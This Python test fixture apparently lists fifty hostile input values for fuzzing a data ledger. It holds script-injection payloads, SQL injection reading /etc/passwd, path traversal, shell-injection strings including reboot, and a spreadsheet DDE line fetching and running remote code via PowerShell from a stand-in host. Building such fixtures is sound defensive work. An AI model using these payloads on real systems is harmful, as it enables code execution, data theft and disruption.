"""Fifty hostile values: what has broken out of a table into a page, a sheet, a shell or a log before.

Each has a name, what it would do where it is not taken as text, and the text itself. Those of
:data:`REFUSED` cannot stand in a ledger at all: a source that holds one is put on hold.
"""

from __future__ import annotations

from typing import Final, NamedTuple

SEEN: Final = "alert(document.domain)"  # a dialog that the browser would show
OUTSIDE: Final = "http://outside.example"  # a host that nothing here may ask


class Hostile(NamedTuple):
    """A value, and what it would do."""

    name: str
    would: str
    text: str


SCRIPT, MARKDOWN, SHEET = "run a script", "set other type or fetch a picture", "run as a formula"
SQL, TEMPLATE, BREAK = "end a statement", "be filled in by a template", "break the file's form"
READING = "be read as something else"

VALUES: Final = (
    Hostile("script tag", SCRIPT, f"<script>{SEEN}</script>"),
    Hostile("end of script", SCRIPT, f"</script><script>{SEEN}</script>"),
    Hostile("image with onerror", SCRIPT, f'"><img src=x onerror={SEEN}>'),
    Hostile("picture of another host", SCRIPT, f'<img src="{OUTSIDE}/i.png">'),
    Hostile("svg with onload", SCRIPT, f"<svg/onload={SEEN}>"),
    Hostile("svg document", SCRIPT, f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SEEN}</script></svg>'),
    Hostile("frame", SCRIPT, f'<iframe srcdoc="<script>{SEEN}</script>"></iframe>'),
    Hostile("attribute", SCRIPT, f"' onmouseover='{SEEN}' x='"),
    Hostile("entity", SCRIPT, f"&lt;img src=x onerror={SEEN}&gt; &amp;amp; &#60;b&#62;"),
    Hostile("style", SCRIPT, f"<style>@import '{OUTSIDE}/s.css'; * {{ display: none }}</style>"),
    Hostile("base", SCRIPT, f'<base href="{OUTSIDE}/">'),
    Hostile("refresh", SCRIPT, f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">'),
    Hostile("comment", SCRIPT, "<!--"),
    Hostile("CDATA", SCRIPT, f"]]><script>{SEEN}</script><![CDATA["),
    Hostile("javascript link", SCRIPT, f"javascript:{SEEN}"),
    Hostile("javascript link in Markdown", SCRIPT, f"[look](javascript:{SEEN})"),
    Hostile("data address", SCRIPT, f"data:text/html,<script>{SEEN}</script>"),
    Hostile("link in Markdown", MARKDOWN, f"[look]({OUTSIDE})"),
    Hostile("picture in Markdown", MARKDOWN, f"![look]({OUTSIDE}/p.png)"),
    Hostile("bold and heading", MARKDOWN, "# **loud** _slanted_ ~~struck~~ `code`"),
    Hostile("colour directive", MARKDOWN, ":red[alarm] :material/warning: :smile:"),
    Hostile("mathematics", MARKDOWN, "$\\frac{1}{2}$ and $$x^2$$"),
    Hostile("table in Markdown", MARKDOWN, "| a | b |\\n|---|---|"),
    Hostile("bare address", MARKDOWN, f"{OUTSIDE}/bare and www.outside.example"),
    Hostile("SQL", SQL, "'; DROP TABLE present.funding; --"),
    Hostile("SQL, always true", SQL, "' OR '1'='1"),
    Hostile("SQL, reading a file", SQL, "\" || (SELECT content FROM read_text('/etc/passwd')) || \""),
    Hostile("formula with =", SHEET, f"=HYPERLINK(\"{OUTSIDE}\",\"look\")"),
    Hostile("formula with +", SHEET, "+1+cmd|' /C calc'!A1"),
    Hostile("formula with -", SHEET, "-2+3+cmd|' /C calc'!A1"),
    Hostile("formula with @", SHEET, "@SUM(1+1)*cmd|' /C calc'!A1"),
    Hostile("formula behind what is not seen", SHEET, "\u2060=1+1"),
    Hostile("formula in full width", SHEET, "\uff1d1+1"),
    Hostile("DDE", SHEET, "=cmd|'/C powershell IEX(wget outside.example)'!A0"),
    Hostile("web service", SHEET, f"=WEBSERVICE(\"{OUTSIDE}/\"&A1)"),
    Hostile("path upwards", READING, "../../../../etc/passwd"),
    Hostile("path of Windows", READING, "..\\..\\CON\\..\\C:\\windows\\win.ini"),
    Hostile("right to left", READING, "annual\u202etxt.exe\u202c figure"),
    Hostile("no width", READING, "De\u200bfen\u200dse\u2060 \ufeffU\u00adSAID"),
    Hostile("stacked accents", READING, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a"),
    Hostile("half a character, escaped", READING, "\\ud800 \\u0000 %00 %0d%0aSet-Cookie: a=b"),
    Hostile("huge number", READING, "1e309 -99999999999999999999999999 NaN Infinity"),
    Hostile("words for nothing", READING, "null None undefined NA #N/A TRUE"),
    Hostile("braces", TEMPLATE, "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>"),
    Hostile("format string", TEMPLATE, "%s %n %x {0.__class__.__mro__} {self}"),
    Hostile("shell", TEMPLATE, "$(touch /tmp/hma-siege) `id` ; reboot | tee & ${IFS}"),
    Hostile("quotes", BREAK, "a \"quoted\" 'text', with \"\"\" and ,;|"),
    Hostile("line breaks", BREAK, f"first\nsecond\r\n=third\n<b>fourth</b>\n{OUTSIDE}"),
    Hostile("long", BREAK, "long<b>" + "=1+1,\"" * 1_700_000),
)  # fmt: skip
# 49 above stand in a ledger; with NUL, which no text may hold, there are fifty.
REFUSED: Final = (Hostile("NUL", BREAK, "before\x00after"),)

# What the fuzzing puts into cells beside them.
ODD: Final = (
    "", " ", "0", "-0", "-1", "1.5", "01", "1e400", "9" * 40, "2024-02-30", "0000-00-00", "99999", "+1", "1,000",
    "٣", "½", "NULL", "NA", "null", "true", "a" * 3000, "\t", "\r", "\n", '"', ",", ";", "|", "\x1f", "\x7f", "\x85",
    "\u2028", "\ufeff", "\ufffd", "\U0010ffff", "15250", "VNM", "USA", "2020", "12/31/2020", "31DEC2020", "[]", "{}",
)  # fmt: skip
SHORT: Final = tuple(value.text for value in VALUES if len(value.text) < 500)
